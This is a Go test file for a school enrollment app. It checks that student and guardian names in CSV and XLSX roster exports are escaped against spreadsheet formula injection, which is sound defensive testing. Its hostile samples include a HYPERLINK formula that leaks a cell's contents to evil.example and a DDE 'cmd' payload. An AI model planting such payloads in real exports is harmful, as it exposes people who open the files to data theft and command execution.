package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"kehou/models/modelstest"
)

// TestExportsDoNotCarryFormulas: a name that a spreadsheet would evaluate
// (=HYPERLINK, +, -, @, or a tab first) is exported as text: CSV cells get
// a leading ', XLSX cells are strings, never formulas.
func TestExportsDoNotCarryFormulas(t *testing.T) {
	w := newEnrollWorld(t)
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
	hostile := []string{evil, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"}
	oid := w.publishedOffering(t, nil)
	for i, name := range hostile {
		st := w.student
		if i > 0 {
			st = modelstest.Student(t, w.db, w.schoolID, 3, fmt.Sprintf("1390000%04d", i))
		}
		if err := w.db.W.Exec("UPDATE students SET name = ? WHERE id = ?", name, st.ID).Error; err != nil {
			t.Fatal(err)
		}
		if err := w.db.W.Exec("UPDATE guardians SET name = ? WHERE student_id = ?", name, st.ID).Error; err != nil {
			t.Fatal(err)
		}
		w.do("POST", "/api/v1/enrollments", w.adminTok, map[string]any{"student_id": st.ID, "offering_id": oid}).want(t, 201)
	}
	path := fmt.Sprintf("/api/v1/offerings/%d/roster", oid)
	t.Run("csvCellsPrefixed", func(t *testing.T) {
		r := w.do("GET", path+"?format=csv", w.adminTok, nil).want(t, 200)
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("cell %q would be evaluated by a spreadsheet", cell)
				}
				for _, h := range hostile {
					if cell == "'"+h {
						seen++
					}
				}
			}
		}
		if seen != 2*len(hostile) { // student name and guardian name
			t.Fatalf("escaped cells = %d, want %d: %q", seen, 2*len(hostile), r.Body)
		}
	})
	t.Run("xlsxCellsAreText", func(t *testing.T) {
		r := w.do("GET", path+"?format=xlsx", w.adminTok, nil).want(t, 200)
		f, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatal(err)
		}
		sheet := f.GetSheetName(0)
		rows, _ := f.GetRows(sheet)
		found := false
		for i := 1; i < len(rows); i++ {
			for j := range rows[i] {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					t.Fatalf("cell %s is a formula %q", cell, fm)
				}
				if rows[i][j] == evil {
					found = true
				}
			}
		}
		if !found {
			t.Fatalf("xlsx lost the name: %v", rows)
		}
	})
}
